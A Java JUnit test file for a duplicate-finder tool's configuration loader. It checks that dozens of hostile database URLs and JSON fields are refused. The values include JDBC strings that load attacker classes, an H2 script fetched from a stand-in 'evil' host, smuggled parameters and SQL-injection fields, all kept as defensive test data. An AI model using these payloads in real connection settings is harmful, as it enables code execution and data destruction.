package io.dupfinder.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Drivers load classes, fetch pages, open other files and weaken their protocol when a URL says so
/// (CVE-2022-21724, CVE-2023-32697 and their kin). Nothing of the kind gets as far as a [Config].
@Tag("fast")
class HostileValuesTest {

    @TempDir Path root;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "postgresql://h/d?socketFactory=javax.sql.X&socketFactoryArg=http://evil",
                "postgresql://h/d?sslfactory=evil.Factory",
                "postgresql://h/d?sslhostnameverifier=evil.Verifier",
                "postgresql://h/d?sslpasswordcallback=evil.Callback",
                "postgresql://h/d?authenticationPluginClassName=evil.Plugin",
                "postgresql://h/d?loggerLevel=TRACE&loggerFile=/etc/cron.d/x",
                "postgresql://h/d?preferQueryMode=simple",
                "postgresql://h/d?channelBinding=disable",
                "postgresql://h/d?options=-c%20session_preload_libraries=x",
                "postgresql://h/d?%73ocketFactory=evil.X",
                "postgresql://h/d?sslmode=require&sslmode=disable",
                "postgresql://h/d?sslmode=require&",
                "postgresql://h/d?SSLMODE=require",
                "postgresql://h/d?sslmode",
                "postgresql://h/d?sslmode=require%26socketFactory=evil.X",
                "postgresql://h/d?ApplicationName=a%0Ab",
                "postgresql://h/d%3FsocketFactory=evil.X",
                "postgresql://h/d%00",
                "postgresql://h/d%0a",
                "postgresql://h/d%c0%af",
                "postgresql://h/d%zz",
                "postgresql://h/d%",
                "postgresql://h/d/../e",
                "postgresql://h/d;socketFactory=evil.X",
                "postgresql://h/\"d\"",
                "postgresql://h/d#x",
                "postgresql://h,evil/d",
                "postgresql://h:5432,evil:5432/d",
                "postgresql://h%2Fevil/d",
                "postgresql://h\\@evil/d",
                "postgresql://u@evil@h/d",
                "postgresql://::1/d",
                "postgresql://[::1/d",
                "postgresql://[::1]x/d",
                "postgresql://h:0/d",
                "postgresql://h:99999/d",
                "postgresql://h:-1/d",
                "postgresql://h:/d",
                "postgresql://h:5432 /d",
                "postgresql://h/d\n?socketFactory=x",
                " postgresql://h/d",
                "postgresql://caf\uFFFD/d",
                "postgresql:///var/run/postgresql?host=/tmp",
                "jdbc:postgresql:d",
                "jdbc:postgresql://h/d?socketFactory=evil.X",
                "jdbc:postgresql://h/d?user=a&user=b",
                "jdbc:postgresql://u:p@h/d",
                "jdbc:pgsql://h/d",
                "jdbc:mysql://h/d?autoDeserialize=true",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:derby:x;create=true",
                "jdbc:log4jdbc:postgresql://h/d",
                "JDBC:POSTGRESQL://h/d",
                "sqlite://",
                "sqlite:///",
                "sqlite:///:memory:",
                "sqlite://host/x.db",
                "sqlite:x.db",
                "sqlite:////tmp/x?enable_load_extension=true",
                "sqlite:////tmp/x%3Fenable_load_extension=true",
                "sqlite:////tmp/x#y",
                "sqlite:////tmp/x\u0000y",
                "sqlite:////tmp/x\ny",
                "sqlite:////tmp/",
                "sqlite:////tmp/..",
                "sqlite:///file:/tmp/x?mode=memory",
                "sqlite:////tmp/caf\uFFFD",
                "sqlite:////tmp/\ud800",
                "jdbc:sqlite:",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite::resource:jar:http://evil/x.jar!/x.db",
                "jdbc:sqlite:file:/tmp/x",
                "jdbc:sqlite:file::memory:?cache=shared",
                "jdbc:sqlite://evil/x",
                "jdbc:sqlite:/tmp/x?enable_load_extension=true",
                "jdbc:sqlite:/tmp/x?jdbc.explicit_readonly=true",
                "http://evil/x",
                "file:///tmp/x",
                "ldap://evil/x",
                "x",
            })
    void a_hostile_url_is_refused(String url) {
        assertThat(new ConfigFixture(root).urlOption(url).failure())
                .as(url)
                .isNotNull()
                .hasMessageContaining("--db-url");
        assertThat(new ConfigFixture(root).variable("DUPFINDER_DB_URL", url).failure())
                .as(url)
                .isNotNull()
                .hasMessageContaining("DUPFINDER_DB_URL");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"type\":\"sqlite\",\"path\":\":memory:\"",
                "\"type\":\"sqlite\",\"path\":\":resource:http://evil/x.db\"",
                "\"type\":\"sqlite\",\"path\":\"file:/tmp/x?mode=memory\"",
                "\"type\":\"sqlite\",\"path\":\"file:x\"",
                "\"type\":\"sqlite\",\"path\":\"/tmp/x?enable_load_extension=true\"",
                "\"type\":\"sqlite\",\"path\":\"/tmp/x\\u0000y\"",
                "\"type\":\"sqlite\",\"path\":\"/tmp/x\\ny\"",
                "\"type\":\"sqlite\",\"path\":\"/tmp/\\ud800\"",
                "\"type\":\"sqlite\",\"path\":\"..\"",
                "\"type\":\"sqlite\",\"socketFactory\":\"evil.X\"",
                "\"type\":\"postgresql\",\"host\":\"h/d?socketFactory=evil.X&\"",
                "\"type\":\"postgresql\",\"host\":\"h?socketFactory=evil.X\"",
                "\"type\":\"postgresql\",\"host\":\"[::1]?x\"",
                "\"type\":\"postgresql\",\"host\":\"h#\"",
                "\"type\":\"postgresql\",\"host\":\"u@h\"",
                "\"type\":\"postgresql\",\"host\":\"h:5432\"",
                "\"type\":\"postgresql\",\"database\":\"d?socketFactory=evil.X\"",
                "\"type\":\"postgresql\",\"database\":\"d\\\"; drop database x\"",
                "\"type\":\"postgresql\",\"database\":\"-d\"",
                "\"type\":\"postgresql\",\"schema\":\"a,b\"",
                "\"type\":\"postgresql\",\"schema\":\"a; drop table x\"",
                "\"type\":\"postgresql\",\"schema\":\"a -c x=y\"",
                "\"type\":\"postgresql\",\"user\":\"a\\u0000b\"",
                "\"type\":\"postgresql\",\"password\":\"a\\u0000b\"",
                "\"type\":\"postgresql\",\"applicationName\":\"a\\nb\"",
                "\"type\":\"postgresql\",\"sslmode\":\"require&socketFactory=x\"",
                "\"type\":\"postgresql\",\"sslfactory\":\"evil.X\"",
                "\"type\":\"jdbc:postgresql\"",
                "\"url\":\"jdbc:sqlite::resource:http://evil/x\"",
                "\"@class\":\"evil.X\"",
            })
    void a_hostile_field_is_refused(String fields) {
        ConfigFixture fixture = new ConfigFixture(root);
        fixture.config("{\"database\":{" + fields + "}}");

        assertThat(fixture.failure())
                .as(fields)
                .isNotNull()
                .hasMessageContaining(fixture.configFile().text());
    }
}
